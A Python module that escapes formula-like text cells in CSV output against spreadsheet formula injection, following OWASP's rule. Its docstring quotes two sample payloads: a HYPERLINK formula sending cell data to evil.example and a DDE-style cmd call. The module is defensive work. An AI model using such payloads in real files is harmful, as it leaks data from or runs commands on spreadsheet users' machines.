"""CSV that spreadsheets open as data: every text cell that would start a formula is neutralised.

A cell such as ``=HYPERLINK("http://evil.example/?"&A1,"click")`` or ``@SUM(1+1)*cmd|' /C calc'!A0``
written as it is runs as a formula when the file is opened in Excel, LibreOffice or Google
Sheets. Site names, ids and the values of an upload's error report come from users, so every
CSV the project writes goes through this module.

The rule is OWASP's: a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading ``'``, which spreadsheets show as nothing and read as "this is
text". Numbers are not text: numeric columns are written as they are, and a text cell that is
a plain decimal number (``-12.5``, ``+3e4``, the value of an error report) is kept as it is,
since a spreadsheet reads it as that number and nothing else.

References
----------
OWASP, *CSV Injection*, https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pandas as pd

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""First characters that make a spreadsheet read a cell as a formula: OWASP's list, plus the
full-width forms of ``= + - @`` that some East Asian spreadsheet locales also accept
(an assumption: cheap to cover)."""

_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def cell(value: Any) -> Any:
    """Return ``value`` safe for a CSV cell: formula-like text gets a leading ``'``."""
    if not isinstance(value, str) or not value or not value.startswith(FORMULA_PREFIXES):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value  # "-12.5" is a number to every spreadsheet, not a formula
    return "'" + value


def row(values: Iterable[Any]) -> list[Any]:
    """Return a row of cells, each made safe with :func:`cell`."""
    return [cell(v) for v in values]


def writer(buf: io.TextIOBase | Any, **kwargs: Any) -> Any:
    """Return a ``csv.writer`` over ``buf`` whose ``writerow``/``writerows`` neutralise formulas."""
    return _SafeWriter(csv.writer(buf, **kwargs))


class _SafeWriter:
    def __init__(self, inner: Any) -> None:
        self._inner = inner

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._inner.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def rows_csv(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """Return CSV text (``\\n`` line ends) of a header and rows, formulas neutralised."""
    buf = io.StringIO()
    out = writer(buf, lineterminator="\n")
    out.writerow(header)
    out.writerows(rows)
    return buf.getvalue()


def frame_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """Return ``frame`` with every text cell made safe; numeric and boolean columns untouched."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if pd.api.types.is_numeric_dtype(column.dtype) or pd.api.types.is_bool_dtype(column.dtype):
            continue
        out[name] = column.map(cell, na_action="ignore")
    out.columns = [cell(c) for c in out.columns]
    return out


def frame_csv(frame: pd.DataFrame, path: str | Path | None = None, **kwargs: Any) -> str | None:
    """Write ``frame`` as CSV (``DataFrame.to_csv`` arguments), formulas neutralised.

    Returns the text when ``path`` is None, as ``to_csv`` does.
    """
    kwargs.setdefault("index", False)
    return frame_safe(frame).to_csv(path, **kwargs)
